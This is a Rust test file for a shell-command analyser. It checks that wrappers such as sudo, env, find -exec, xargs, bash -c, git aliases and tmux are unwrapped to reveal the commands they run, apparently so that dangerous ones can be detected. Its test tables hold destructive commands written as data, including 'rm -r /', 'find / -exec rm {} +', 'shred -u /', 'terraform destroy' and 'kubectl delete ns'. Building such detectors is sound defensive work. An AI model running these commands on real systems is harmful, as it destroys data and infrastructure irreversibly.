//! Lines, and what they run in turn. `%?` is a word that is not known, `%*` one
//! that may be several.

use super::*;
use crate::shell::value::{HOLE, HOLES};

fn value(word: &str) -> Value {
    let mut bytes = Vec::new();
    let mut rest = word.as_bytes();
    while let Some((byte, behind)) = rest.split_first() {
        let hole = match rest {
            [b'%', b'?', ..] => Some(HOLE),
            [b'%', b'*', ..] => Some(HOLES),
            _ => None,
        };
        bytes.push(hole.unwrap_or(*byte));
        rest = if hole.is_some() { &rest[2..] } else { behind };
    }
    Value::known(bytes)
}

fn shown(value: &Value) -> String {
    let mut text = Vec::new();
    for byte in &value.bytes {
        match *byte {
            HOLE => text.extend(b"%?"),
            HOLES => text.extend(b"%*"),
            byte => text.push(byte),
        }
    }
    String::from_utf8(text).unwrap()
}

fn line(words: &[Value]) -> String {
    let words: Vec<String> = words.iter().map(shown).collect();
    let plain = |word: &String| !word.is_empty() && !word.contains([' ', '$', ';', '"', '\\', '\'']);
    let words = words
        .iter()
        .map(|word| if plain(word) { word.clone() } else { shell_words::quote(word).into_owned() });
    words.collect::<Vec<_>>().join(" ")
}

fn runs(runs: &Runs) -> String {
    let behind = |arguments: &[Value]| {
        if arguments.is_empty() { String::new() } else { format!(" | {}", line(arguments)) }
    };
    match runs {
        Runs::Words(words) => line(words),
        Runs::WordsFromInput { words, replaces: None } => format!("{} <", line(words)),
        Runs::WordsFromInput { words, replaces: Some(mark) } => {
            format!("{} < {}", line(words), String::from_utf8_lossy(mark))
        }
        Runs::Text { text, arguments } => format!("text: {}{}", shown(text), behind(arguments)),
        Runs::Code { code, language } => format!("{language:?}: {}", shown(code)),
        Runs::File { path, language, arguments, sourced } => {
            let how = if *sourced { "sourced" } else { "file" };
            let language = language.map_or_else(String::new, |language| format!(" {language:?}"));
            format!("{how}{language}: {}{}", shown(path), behind(arguments))
        }
        Runs::Input { language, arguments } => format!("input {language:?}{}", behind(arguments)),
        Runs::Opaque(_) => "opaque".to_owned(),
    }
}

fn changes(changes: &Changes) -> String {
    let mut parts = Vec::new();
    if changes.clears {
        parts.push("clears".to_owned());
    }
    for (name, value) in &changes.environment {
        parts.push(match value {
            Some(value) => format!("{name}={}", shown(value)),
            None => format!("-{name}"),
        });
    }
    parts.extend(changes.directory.as_ref().map(|directory| format!("in {}", shown(directory))));
    if changes.place != Place::Here {
        parts.push(format!("{:?}", changes.place));
    }
    if changes.other_input {
        parts.push("other input".to_owned());
    }
    if parts.is_empty() { String::new() } else { format!(" [{}]", parts.join(", ")) }
}

fn told(written: &str) -> Vec<String> {
    let words: Vec<Value> = shell_words::split(written).unwrap().iter().map(|word| value(word)).collect();
    let inners = inner(&words).unwrap_or_default();
    inners.iter().map(|inner| format!("{}{}", runs(&inner.runs), changes(&inner.changes))).collect()
}

#[track_caller]
fn check(cases: &[(&str, &[&str])]) {
    let wrong: Vec<String> = cases
        .iter()
        .filter(|(written, expected)| told(written) != *expected)
        .map(|(written, expected)| format!("{written}\n  is   {:?}\n  not  {expected:?}", told(written)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[track_caller]
fn nothing(lines: &[&str]) {
    let wrong: Vec<String> = lines
        .iter()
        .filter(|line| !told(line).is_empty())
        .map(|line| format!("{line}: {:?}", told(line)))
        .collect();
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn privilege() {
    check(&[
        ("sudo terraform destroy", &["terraform destroy"]),
        ("/usr/bin/sudo -u root -- terraform destroy", &["terraform destroy"]),
        ("sudo -nu root kubectl delete ns x", &["kubectl delete ns x"]),
        ("sudo -uroot -g wheel -E helm uninstall x", &["helm uninstall x"]),
        ("sudo --user root --preserve-env=A,B terraform destroy", &["terraform destroy"]),
        ("sudo --us root terraform destroy", &["terraform destroy"]),
        ("sudo --preserve-env terraform destroy", &["terraform destroy"]),
        ("sudo AWS_PROFILE=prod X=1 aws s3 rb s3://x", &["aws s3 rb s3://x [AWS_PROFILE=prod, X=1]"]),
        ("sudo -D /srv terraform destroy", &["terraform destroy [in /srv]"]),
        ("sudo --chdir=/srv -T 5 terraform destroy", &["terraform destroy [in /srv]"]),
        ("sudo -i", &["input Shell [in %?]"]),
        ("sudo -s", &["input Shell"]),
        ("sudo -iu postgres psql", &["psql [in %?]"]),
        ("sudo -s terraform destroy", &["terraform destroy"]),
        ("sudo -s '$T' destroy", &["text: $T destroy"]),
        ("sudo -i sh -c 'rm $X; ls'", &["text: sh -c rm\\ $X\\;\\ ls [in %?]"]),
        ("sudo -k terraform destroy", &["terraform destroy"]),
        ("sudo -C 5 -p 'pass word' -h localhost -r role -t type -R /srv ls", &["ls"]),
        ("sudo -g docker bash -c 'terraform destroy'", &["bash -c 'terraform destroy'"]),
        ("sudo %? terraform destroy", &["%? terraform destroy", "terraform destroy"]),
        ("sudo %* %* terraform destroy", &["%* %* terraform destroy", "terraform destroy"]),
        ("sudo --new-option terraform destroy", &["terraform destroy", "destroy"]),
        ("doas -u root -n terraform destroy", &["terraform destroy"]),
        ("doas -s", &["input Shell"]),
        ("su -c 'terraform destroy'", &["sh -c 'terraform destroy'"]),
        ("su - deploy -c 'terraform destroy'", &["sh -c 'terraform destroy' [in %?]"]),
        ("su deploy --command='terraform destroy' -- a", &["sh -c 'terraform destroy' a"]),
        ("su -l -s /bin/zsh deploy", &["/bin/zsh [in %?]"]),
        ("su deploy script.sh x", &["sh script.sh x"]),
        ("runuser -u deploy -- terraform destroy", &["terraform destroy"]),
        ("runuser -l deploy -c 'terraform destroy'", &["sh -c 'terraform destroy' [in %?]"]),
        ("pkexec --user root terraform destroy", &["terraform destroy"]),
        ("chroot /srv terraform destroy", &["terraform destroy"]),
        ("chroot --userspec=a:b /srv", &["input Shell"]),
        ("unshare -rm --fork --wd /srv terraform destroy", &["terraform destroy [in /srv]"]),
        ("unshare -Ur", &["input Shell"]),
        ("nsenter -t 1 -m -u -i -n -p -- terraform destroy", &["terraform destroy"]),
        ("nsenter --target 1 --mount terraform destroy", &["terraform destroy"]),
        ("nsenter -t1 -a", &["input Shell"]),
        ("setpriv --reuid 1000 --clear-groups --no-new-privs terraform destroy", &["terraform destroy"]),
        ("capsh --drop=cap_net_raw -- -c 'terraform destroy'", &["bash -c 'terraform destroy'"]),
        ("firejail --net=none terraform destroy", &["terraform destroy"]),
        (
            "bwrap --bind / / --dev /dev --setenv A 1 --chdir /srv terraform destroy",
            &["terraform destroy [A=1, in /srv]"],
        ),
        ("bwrap --ro-bind /usr /usr --unshare-all --die-with-parent -- sh -c x", &["sh -c x"]),
        ("fakeroot -l lib terraform destroy", &["terraform destroy"]),
        ("fakeroot -- make", &["make"]),
        ("gosu deploy terraform destroy", &["terraform destroy"]),
    ]);
    nothing(&[
        "sudo",
        "sudo -l",
        "sudo -l terraform destroy",
        "sudo -v",
        "sudo -K",
        "sudo -k",
        "sudo -V",
        "sudo -e /etc/hosts",
        "sudo --edit /etc/hosts",
        "sudoedit /etc/hosts",
        "sudo --list",
        "doas -C conf",
        "doas",
        "su --help",
        "chroot",
        "setpriv -d",
        "capsh --print",
        "pkexec --version",
    ]);
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table")]
fn wrappers() {
    check(&[
        ("env X=1 Y=2 terraform destroy", &["terraform destroy [X=1, Y=2]"]),
        ("env -i A=1 -C dir -u X cmd", &["-C dir -u X cmd [clears, A=1]"]),
        ("env -i -C dir -u X A=1 cmd", &["cmd [clears, -X, A=1, in dir]"]),
        ("env - A=1 cmd", &["cmd [clears, A=1]"]),
        ("env --unset=AWS_PROFILE --chdir=/srv aws s3 ls", &["aws s3 ls [-AWS_PROFILE, in /srv]"]),
        ("env -S 'terraform destroy'", &["env terraform destroy"]),
        ("env '-Sterraform destroy' -x", &["env terraform destroy -x"]),
        ("env -iS 'A=1 \"b c\" ${D}' x", &["env A=1 'b c' %? x [clears]"]),
        ("env --split-string='sh -c \"a b\"'", &["env sh -c 'a b'"]),
        ("env A=%? cmd", &["cmd [A=%?]"]),
        ("env -- cmd", &["cmd"]),
        ("nice -n5 terraform destroy", &["terraform destroy"]),
        ("nice -n 5 terraform destroy", &["terraform destroy"]),
        ("nice -10 terraform destroy", &["terraform destroy"]),
        ("nice --adjustment 5 terraform destroy", &["terraform destroy"]),
        ("nice terraform destroy", &["terraform destroy"]),
        ("ionice -c2 -n 7 terraform destroy", &["terraform destroy"]),
        ("ionice -c idle -t terraform destroy", &["terraform destroy"]),
        ("chrt -f 10 terraform destroy", &["terraform destroy"]),
        ("chrt -i terraform destroy", &["terraform destroy"]),
        ("taskset 03 terraform destroy", &["terraform destroy"]),
        ("taskset -c 0,1 terraform destroy", &["terraform destroy"]),
        ("nohup terraform destroy", &["terraform destroy"]),
        ("timeout -s KILL 5 kubectl delete ns x", &["kubectl delete ns x"]),
        ("timeout --signal=KILL -k 5 10m kubectl delete ns x", &["kubectl delete ns x"]),
        ("timeout %? kubectl delete ns x", &["kubectl delete ns x", "delete ns x"]),
        ("/usr/bin/time -o out -f %e terraform destroy", &["terraform destroy"]),
        ("/usr/bin/time -v terraform destroy", &["terraform destroy"]),
        ("stdbuf -oL -e 0 terraform destroy", &["terraform destroy"]),
        ("unbuffer -p terraform destroy", &["terraform destroy"]),
        ("setsid -w terraform destroy", &["terraform destroy"]),
        ("watch -n 5 -d kubectl delete pod x", &["text: kubectl delete pod x"]),
        ("watch -n5 'kubectl get pods; rm x'", &["text: kubectl get pods; rm x"]),
        ("watch -x kubectl delete pod x", &["kubectl delete pod x"]),
        ("strace -f -e trace=open -o out -E A=1 -E B terraform destroy", &["terraform destroy [A=1, -B]"]),
        ("strace -ffttTo out terraform destroy", &["terraform destroy"]),
        ("ltrace -f -o out terraform destroy", &["terraform destroy"]),
        ("gdb --args terraform destroy", &["terraform destroy"]),
        ("gdb -q -batch -ex run --args terraform destroy", &["terraform destroy"]),
        ("gdb -ex '!terraform destroy' prog", &["text: terraform destroy"]),
        ("gdb -ex='shell terraform destroy'", &["text: terraform destroy"]),
        ("perf stat -e cycles -r 5 terraform destroy", &["terraform destroy"]),
        ("perf record -g -F 99 -- terraform destroy", &["terraform destroy"]),
        ("valgrind --leak-check=full -q terraform destroy", &["terraform destroy"]),
        (
            "systemd-run --user -p MemoryMax=1G --setenv=A=1 --working-directory=/srv terraform destroy",
            &["terraform destroy [A=1, in /srv]"],
        ),
        ("systemd-run --on-active=30 -u x terraform destroy", &["terraform destroy"]),
        ("systemd-inhibit --what=sleep terraform destroy", &["terraform destroy"]),
        ("caffeinate -dims -t 100 terraform destroy", &["terraform destroy"]),
        ("flock /tmp/l terraform destroy", &["terraform destroy"]),
        ("flock -n -w 5 /tmp/l -c 'terraform destroy'", &["text: terraform destroy"]),
        ("flock -xc 'terraform destroy' /tmp/l", &["text: terraform destroy"]),
        ("at now + 1 minute", &["input Shell"]),
        ("at -f job.sh noon", &["file Shell: job.sh"]),
        ("batch", &["input Shell"]),
        (
            "start-stop-daemon --start -p x.pid --exec /usr/bin/terraform -- destroy",
            &["/usr/bin/terraform destroy"],
        ),
        ("start-stop-daemon -S -d /srv -x terraform -- destroy", &["terraform destroy [in /srv]"]),
        (
            "daemonize -c /srv -E A=1 /usr/bin/terraform destroy",
            &["/usr/bin/terraform destroy [A=1, in /srv]"],
        ),
        (
            "hyperfine -w 3 'terraform destroy' --prepare 'rm x' ls",
            &["text: rm x", "text: terraform destroy", "text: ls"],
        ),
        ("multitime -n 5 terraform destroy", &["terraform destroy"]),
        ("chronic -v terraform destroy", &["terraform destroy"]),
        ("rlwrap -a -f words terraform console", &["terraform console"]),
        ("xvfb-run -a -s '-screen 0' terraform destroy", &["terraform destroy"]),
        ("ssh-agent bash -c x", &["bash -c x"]),
        ("dbus-run-session -- terraform destroy", &["terraform destroy"]),
        ("with-contenv terraform destroy", &["terraform destroy"]),
        ("ip netns exec blue terraform destroy", &["terraform destroy"]),
    ]);
    nothing(&[
        "env",
        "env A=1",
        "env -u X",
        "time",
        "/usr/bin/time",
        "nice",
        "nohup",
        "timeout 5",
        "timeout",
        "ionice -p 5",
        "chrt -p 5",
        "chrt -m",
        "taskset -p 03 700",
        "strace -p 5",
        "gdb prog",
        "gdb -p 5",
        "perf report",
        "perf list",
        "flock -u 9",
        "flock 9",
        "at -l",
        "at -r 5",
        "atq",
        "start-stop-daemon --stop --exec x",
        "ssh-agent -k",
        "ssh-agent",
        "systemd-inhibit --list",
        "crontab -l",
        "crontab -",
        "watch --version",
        "ip addr show",
        "ip netns list",
        "ts x",
        "sponge x",
        "run-parts x",
        "valgrind --version",
        "gdb -ex run prog",
    ]);
}

#[test]
fn for_each() {
    check(&[
        ("xargs kubectl delete", &["kubectl delete < [other input]"]),
        ("xargs -n1 -I{} -P4 sh -c 'rm {}'", &["sh -c 'rm {}' < {} [other input]"]),
        ("xargs -0 -r -I % rm %", &["rm % < % [other input]"]),
        ("xargs -i rm {}", &["rm {} < {} [other input]"]),
        ("xargs --replace=@ rm @", &["rm @ < @ [other input]"]),
        ("xargs --max-args 1 --no-run-if-empty rm", &["rm < [other input]"]),
        ("xargs -a list -d , rm", &["rm <"]),
        ("xargs -L1 -t rm -f", &["rm -f < [other input]"]),
        ("find . -name '*.x' -exec rm {} +", &["rm ./%*"]),
        ("find . -name x -exec rm -rf {} +", &["rm -rf ./x", "rm -rf ./%?/x"]),
        (r"find /etc -name 'x*' -exec terraform -chdir={} destroy \;", &["terraform -chdir=/etc/%? destroy"]),
        (r"find a b -type f -exec cat {} \;", &["cat a", "cat b"]),
        (r"find . -name s.sh -exec sh {} \;", &["sh ./s.sh", "sh ./%?/s.sh"]),
        ("find ~ -exec rm -f {} +", &["rm -r -f ~", "rm -f ~"]),
        (r"find / -type f -exec unlink {} \;", &["rm -r /", "unlink /"]),
        ("find ~ -type f -exec cp /dev/null {} ';'", &["rm -r ~", "cp /dev/null ~"]),
        ("find / -exec shred -u {} +", &["rm -r /", "shred -u /"]),
        ("find / -name '*' -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / -iname '?*' -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / -path '/*' -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / -regex '.*' -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / ! -name x -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / -mtime +0 -perm -000 -size -999999G -exec rm {} +", &["rm -r /", "rm /"]),
        ("find / -name x -o -exec rm {} +", &["rm -r /", "rm /"]),
        (r"find / \( -name x -o -true \) -exec rm {} +", &["rm -r /", "rm /"]),
        (r"find / \( -name 'x*' -o -name 'y*' \) -exec rm {} +", &["rm /%*"]),
        (r"find . -path ./x -prune -o -name '*.js' -exec rm {} \;", &["rm ./%?"]),
        (r"find . -type l -exec rm {} \;", &["rm ./%?"]),
        (r"find . -mmin -60 -exec rm {} \;", &["rm ./%?"]),
        (r"find a b -type d -execdir terraform destroy \; -print", &["terraform destroy [in %?]"]),
        (
            r"find . -exec sh -c 'rm $1' _ {} \; -o -ok kubectl delete -f {} \;",
            &["sh -c 'rm $1' _ .", "kubectl delete -f . [other input]"],
        ),
        ("find -L . -exec grep x {} +", &["grep x ."]),
        ("fd -e tf -x terraform destroy", &["terraform destroy %?"]),
        ("fd pattern dir --exec rm {/} ';' -X ls", &["rm dir/%?", "ls dir/%*"]),
        ("fd -Htf x -X rm -rf", &["rm -rf %*"]),
        ("fd . / -x rm", &["rm -r /", "rm /"]),
        ("fd -H -tf . /srv --exec rm -f {}", &["rm -r -f /srv", "rm -f /srv"]),
        ("fd -e log . /srv -x rm", &["rm /srv/%?"]),
        ("fd . -x rm -rf", &["rm -r -rf .", "rm -rf ."]),
        ("fd pyc -x rm", &["rm %?"]),
        (
            "parallel kubectl delete ns ::: prod staging",
            &["text: kubectl delete ns prod [other input]", "text: kubectl delete ns staging [other input]"],
        ),
        ("parallel -j4 'kubectl {} ns' ::: delete", &["text: kubectl delete ns [other input]"]),
        (
            "parallel ::: 'terraform destroy' ls",
            &["text: terraform destroy [other input]", "text: ls [other input]"],
        ),
        ("parallel -a list rm {}", &["text: rm %? [other input]"]),
        ("parallel rm {1} {2} ::: a b ::: c d", &["text: rm %? %? [other input]"]),
        ("parallel --memfree 1G --jl log rm ::: a", &["text: rm a [other input]"]),
        ("parallel rm", &["text: rm %* [other input]"]),
        ("parallel", &["input Shell"]),
        ("parallel -j4 --bar", &["input Shell"]),
        ("parallel -a list", &["file Shell: list"]),
        ("parallel :::: list", &["file Shell: list"]),
        ("parallel -S host rm ::: a", &["text: rm a [Remote, other input]"]),
        ("entr -r terraform destroy", &["terraform destroy [other input]"]),
        ("entr -s 'terraform destroy'", &["text: terraform destroy [other input]"]),
        ("watchexec -w . -e tf -- terraform destroy", &["text: terraform destroy"]),
        ("watchexec -n terraform destroy", &["terraform destroy"]),
        ("nodemon --exec 'terraform destroy'", &["text: terraform destroy"]),
        ("nodemon -e js app.js", &["file JavaScript: app.js"]),
    ]);
    nothing(&[
        "find . -name x",
        "find . -delete",
        "find / -name '*.tf' -print0",
        "xargs",
        "xargs --help",
        "xargs -0",
        "fd x",
        "fd -H x y",
        "watch",
        "entr",
        "parallel --version",
        "parallel --dry-run rm ::: a",
        "find",
        "find . -newer x -exec",
        "find . -name '*' -print",
        "fd . /srv",
    ]);
}

#[test]
fn shells_and_builtins() {
    check(&[
        ("bash -c 'terraform destroy'", &["text: terraform destroy"]),
        ("sh -lc 'a $1' name b", &["text: a $1 | name b"]),
        ("bash -ec x", &["text: x"]),
        ("bash -euo pipefail -c x", &["text: x"]),
        ("bash -o pipefail -c x", &["text: x"]),
        ("bash -co pipefail x", &["text: x"]),
        ("bash +x -O extglob -c x", &["text: x"]),
        ("bash -c -e x", &["text: x"]),
        ("bash -c -- x y", &["text: x | y"]),
        ("bash --norc --noprofile -c x", &["text: x"]),
        ("bash --rcfile rc -ic x", &["file Shell: rc", "text: x"]),
        ("bash --init-file rc", &["file Shell: rc", "input Shell"]),
        ("zsh -oextendedglob -c x", &["text: x"]),
        ("zsh -fc x", &["text: x"]),
        ("bash script.sh a b", &["file Shell: script.sh | a b"]),
        ("bash -x ./script.sh", &["file Shell: ./script.sh"]),
        ("bash -s a b", &["input Shell | a b"]),
        ("bash -s -- a b", &["input Shell | a b"]),
        ("bash", &["input Shell"]),
        ("bash -", &["input Shell"]),
        ("bash /dev/stdin a", &["input Shell | a"]),
        ("bash -i", &["input Shell"]),
        ("bash %?", &["file Shell: %?"]),
        ("bash -c %?", &["text: %?"]),
        ("bash %* -c x", &["text: x"]),
        ("busybox sh -c x", &["sh -c x"]),
        ("toybox xargs rm", &["xargs rm"]),
        ("fish -c 'terraform destroy'", &["OtherShell: terraform destroy"]),
        ("fish x.fish", &["file OtherShell: x.fish"]),
        ("nu -c x", &["OtherShell: x"]),
        ("pwsh -NoProfile -Command terraform destroy", &["OtherShell: terraform destroy"]),
        ("pwsh -c 'terraform destroy'", &["OtherShell: terraform destroy"]),
        ("pwsh -ExecutionPolicy Bypass -File x.ps1 a", &["file OtherShell: x.ps1 | a"]),
        ("powershell.exe terraform destroy", &["OtherShell: terraform destroy"]),
        ("pwsh -EncodedCommand AAAA", &["opaque"]),
        ("cmd.exe /c 'terraform destroy'", &["OtherShell: terraform destroy"]),
        ("exec -a name terraform destroy", &["terraform destroy"]),
        ("exec -c terraform destroy", &["terraform destroy [clears]"]),
        ("command -p terraform destroy", &["terraform destroy"]),
        ("builtin eval x", &["eval x"]),
        ("eval terraform 'destroy; ls'", &["text: terraform destroy; ls"]),
        ("eval -- x", &["text: x"]),
        ("source ./x a", &["sourced Shell: ./x | a"]),
        (". x", &["sourced Shell: x"]),
        ("trap 'terraform destroy' EXIT", &["text: terraform destroy"]),
        ("trap -- 'terraform destroy' EXIT", &["text: terraform destroy"]),
        ("mapfile -C 'terraform destroy' -c 1 x", &["text: terraform destroy"]),
        ("noglob terraform destroy", &["terraform destroy"]),
    ]);
    nothing(&[
        "bash --version",
        "bash -n x.sh",
        "bash -nc x",
        "command -v terraform",
        "command -V x",
        "trap - EXIT",
        "trap -p",
        "trap -l",
        "trap EXIT",
        "trap",
        "exec",
        "eval",
        "busybox --list",
        "busybox",
        "fish --version",
        "pwsh -Version",
        "sh -c",
        "trap '' INT",
        "mapfile -t x",
        "cd x",
    ]);
}

#[test]
fn interpreters() {
    check(&[
        ("python3 -c 'import os'", &["Python: import os"]),
        ("python3.12 -Bc x a", &["Python: x"]),
        ("python -u -W ignore x.py a", &["file Python: x.py | a"]),
        ("python3 -m awscli s3 rb s3://x", &["aws s3 rb s3://x"]),
        ("python3 -m pdb -c continue x.py", &["file Python: x.py"]),
        ("python3 -m cProfile -o out x.py a", &["file Python: x.py | a"]),
        ("python3 -m coverage run --source x x.py", &["file Python: x.py"]),
        ("python3 -m cProfile -m awscli s3 ls", &["aws s3 ls"]),
        ("python3 -", &["input Python"]),
        ("python3", &["input Python"]),
        ("python3 -m %?", &["opaque"]),
        ("node -e x", &["JavaScript: x"]),
        ("node -p x", &["JavaScript: x"]),
        ("node -pe x", &["JavaScript: x"]),
        ("node --eval=x", &["JavaScript: x"]),
        ("node --print x", &["JavaScript: x"]),
        ("node --max-old-space-size=4096 x.js a", &["file JavaScript: x.js | a"]),
        ("node -r ./hook.js x.js", &["file JavaScript: ./hook.js", "file JavaScript: x.js"]),
        ("node -r dotenv/config x.js", &["file JavaScript: x.js"]),
        ("node", &["input JavaScript"]),
        ("deno run -A x.ts a", &["file JavaScript: x.ts | a"]),
        ("deno run --allow-read=. x.ts", &["file JavaScript: x.ts"]),
        ("deno eval 'x'", &["JavaScript: x"]),
        ("bun -e x", &["JavaScript: x"]),
        ("bun run x.ts", &["file JavaScript: x.ts"]),
        ("bun x.ts", &["file JavaScript: x.ts"]),
        ("bun x cowsay hi", &["bunx cowsay hi"]),
        ("tsx x.ts", &["file JavaScript: x.ts"]),
        ("ts-node -e x", &["JavaScript: x"]),
        ("perl -e x", &["Perl: x"]),
        ("perl -ne x f", &["Perl: x"]),
        ("perl -i -pe x f", &["Perl: x"]),
        ("perl -pi.bak -e x f", &["Perl: x"]),
        ("perl -0777ne x f", &["Perl: x"]),
        ("perl -l012pe x f", &["Perl: x"]),
        ("perl -lane x f", &["Perl: x"]),
        ("perl -MJSON -e a -e b", &["Perl: a\nb"]),
        ("perl -Mstrict -w x.pl a", &["file Perl: x.pl | a"]),
        ("ruby -e x", &["Ruby: x"]),
        ("ruby -rjson -ne x", &["Ruby: x"]),
        ("ruby -C dir x.rb", &["file Ruby: x.rb [in dir]"]),
        ("php -r x", &["Php: x"]),
        ("php -d a=b x.php", &["file Php: x.php"]),
        ("awk '{print}' f", &["Awk: {print}"]),
        ("awk -F : -v a=b '{system(x)}' f", &["Awk: {system(x)}"]),
        ("awk -F: -f x.awk f", &["file Awk: x.awk | f"]),
        ("gawk -e x f", &["Awk: x"]),
        ("lua -e 'os.execute(\"x\")'", &["opaque"]),
        ("Rscript -e 'system(\"x\")'", &["opaque"]),
        ("osascript -e 'do shell script \"terraform destroy\"'", &["text: terraform destroy"]),
        ("osascript -e 'do shell script \"a \" & x'", &["opaque"]),
        (
            "expect -c 'spawn terraform destroy; expect x; send \"yes\\r\"'",
            &["text: terraform destroy", "text: yes"],
        ),
    ]);
    nothing(&[
        "python3 --version",
        "python3 -V",
        "node --version",
        "node -v",
        "node --check x.js",
        "node --test",
        "deno fmt",
        "deno task x",
        "bun install",
        "bun run build",
        "perl -v",
        "ruby --version",
        "php -v",
        "php -l x.php",
        "awk --version",
        "lua -e 'print(1)'",
        "lua x.lua",
        "osascript -e 'beep'",
        "Rscript -e 'print(1)'",
        "deno --version",
    ]);
}

#[test]
fn embedded_commands() {
    check(&[
        ("sed 's/x/terraform destroy/e' f", &["opaque"]),
        ("sed 's/.*/terraform destroy/e' f", &["text: terraform destroy"]),
        ("sed -n '1e terraform destroy' f", &["text: terraform destroy"]),
        ("sed -e 's/a/b/' -e '/x/ e ls' f", &["text: ls"]),
        ("sed '$!N;s|a|b|ge' f", &["opaque"]),
        ("sed e f", &["opaque"]),
        ("vim -c '!terraform destroy' f", &["text: terraform destroy"]),
        ("vim -c ':r !terraform destroy' -c q", &["text: terraform destroy"]),
        ("vim '+!terraform destroy'", &["text: terraform destroy"]),
        ("nvim --headless -c 'silent !ls' -c 'q!'", &["text: ls"]),
        ("vim -c 'call system(\"x\")'", &["opaque"]),
        ("tar -xf a --to-command='terraform destroy'", &["text: terraform destroy"]),
        (
            "tar cf a --checkpoint=1 --checkpoint-action=exec='terraform destroy' x",
            &["text: terraform destroy"],
        ),
        ("tar -I 'zstd -19' -cf a x", &["text: zstd -19"]),
        ("tar cIf zstd a x", &["text: zstd"]),
        ("tar --use-compress-program zstd -cf a x", &["text: zstd"]),
        ("zip -T -TT 'terraform destroy' a b", &["text: terraform destroy"]),
        ("rsync -e 'ssh -p 22' a host:b", &["text: ssh -p 22"]),
        ("rsync --rsync-path='sudo rsync' a host:b", &["text: sudo rsync [Remote]"]),
        ("split --filter='terraform destroy' f", &["text: terraform destroy"]),
        ("man -P 'terraform destroy' ls", &["text: terraform destroy"]),
        ("psql -c '\\! terraform destroy'", &["text: terraform destroy"]),
        ("psql -c '\\copy t to program '\\''ls'\\'''", &["text: ls"]),
        ("mysql -e '\\! terraform destroy'", &["text: terraform destroy"]),
        ("mysql -u root -e 'select 1; system ls'", &["text: ls"]),
        ("sqlite3 db '.shell terraform destroy'", &["text: terraform destroy"]),
        ("sqlite3 -cmd '.system ls' db", &["text: ls"]),
        ("git -c alias.x='!terraform destroy' x", &["text: terraform destroy | x"]),
        ("git -C dir -c alias.x='!f' x a", &["text: f \"$@\" | x a [in dir]"]),
        ("git -c alias.x='bisect run rm' x", &["text: git bisect run rm | x"]),
        ("git -c core.pager='terraform destroy' log", &["text: terraform destroy"]),
        ("git -c core.sshCommand='ssh -i k' fetch", &["text: ssh -i k"]),
        ("git -c credential.helper='!f' fetch", &["text: f"]),
        ("git bisect run terraform destroy", &["terraform destroy"]),
        ("git submodule foreach --recursive 'terraform destroy'", &["text: terraform destroy [in %?]"]),
        ("git rebase -i -x 'terraform destroy' main", &["text: terraform destroy"]),
        ("git rebase main --exec='make test'", &["text: make test"]),
        ("git filter-branch --tree-filter 'rm x' HEAD", &["text: rm x"]),
        ("git clone 'ext::sh -c x' d", &["text: sh -c x"]),
        ("git clone -u 'terraform destroy' /x y", &["text: terraform destroy"]),
        ("git fetch --upload-pack='terraform destroy' host:x", &["text: terraform destroy [Remote]"]),
        ("ansible all -m shell -a 'terraform destroy'", &["text: terraform destroy [Remote]"]),
        ("ansible all -i inv -a 'reboot'", &["text: reboot [Remote]"]),
        ("ansible localhost -m ansible.builtin.command -a ls", &["text: ls"]),
    ]);
    nothing(&[
        "sed 's/x/y/' f",
        "sed -e 's/x/y/' f",
        "sed -i 's/e/ee/g' f",
        "sed -n '/start/,/end/p' f",
        "sed 's/a/b/;s/c/d/' f",
        "sed '1d' f",
        "sed -E 's|(a)e|\\1|g; /e/d' f",
        "sed '$ a\\\nexec e' f",
        "sed --sandbox e f",
        "sed ':e;N;$!be;s/x/y/' f",
        "sed 's/x/y/w e' f",
        "sed y/e/f/ f",
        "sed -e '/a/{' -e 's/b/c/' -e '}' f",
        "vim f",
        "vim -c q! f",
        "vim +10 f",
        "vim '+set nu' f",
        "vim -c 'wq!' f",
        "tar xzf a",
        "tar -czf a b",
        "tar tf a",
        "zip -r a b",
        "rsync -av a b",
        "sort -k1 f",
        "man ls",
        "psql -c 'select 1'",
        "mysql -e 'show tables'",
        "sqlite3 db 'select 1'",
        "sqlite3 db .schema",
        "git log",
        "git status",
        "git -c user.name=x commit -m y",
        "git bisect start",
        "git rebase main",
        "git submodule update",
        "git -c alias.x='!f' log",
        "git clone https://x/y",
        "git push origin main",
        "git fetch",
        "git commit -m 'x -c'",
        "ansible all -m ping",
        "ansible all --list-hosts",
        "git config alias.x '!f'",
        "git -c core.pager= log",
        "git push -u origin x",
    ]);
}

#[test]
fn terminals_that_are_held() {
    check(&[
        ("tmux new-session -d -s x 'terraform destroy'", &["text: terraform destroy"]),
        ("tmux new -d -c /srv terraform destroy", &["terraform destroy [in /srv]"]),
        ("tmux neww -t x 'ls'", &["text: ls"]),
        ("tmux split-window -h 'ls'", &["text: ls"]),
        ("tmux run-shell 'ls'", &["text: ls"]),
        ("tmux send-keys -t x 'terraform destroy' Enter", &["text: terraform destroy [other input]"]),
        ("tmux send -t x terraform Space destroy C-m", &["text: terraform destroy [other input]"]),
        ("tmux -L s new -d ';' send-keys 'ls -l' Enter", &["text: ls -l [other input]"]),
        ("tmux if-shell true 'run-shell ls'", &["text: true", "text: tmux run-shell ls"]),
        ("tmux -c 'ls'", &["text: ls"]),
        ("screen -dmS x terraform destroy", &["terraform destroy"]),
        ("screen -S x -X stuff 'terraform destroy\\n'", &["text: terraform destroy [other input]"]),
        ("screen -S x -p 0 -X stuff 'ls -l^M'", &["text: ls -l [other input]"]),
        ("script -c 'terraform destroy' out", &["text: terraform destroy"]),
        ("script -qec 'terraform destroy' /dev/null", &["text: terraform destroy"]),
        ("script -q /dev/null terraform destroy", &["terraform destroy"]),
        ("script out", &["input Shell"]),
        ("zellij run -- terraform destroy", &["terraform destroy"]),
        ("xterm -e 'terraform destroy'", &["text: terraform destroy"]),
        ("gnome-terminal -- terraform destroy", &["terraform destroy"]),
    ]);
    nothing(&[
        "tmux",
        "tmux ls",
        "tmux attach -t x",
        "tmux kill-session -t x",
        "tmux new -s x",
        "tmux send-keys -t x C-c",
        "tmux send-keys q",
        "tmux capture-pane -p",
        "screen -ls",
        "screen -r x",
        "screen -S x -X quit",
        "screen -wipe",
        "zellij ls",
        "script --version",
    ]);
}

#[test]
fn elsewhere() {
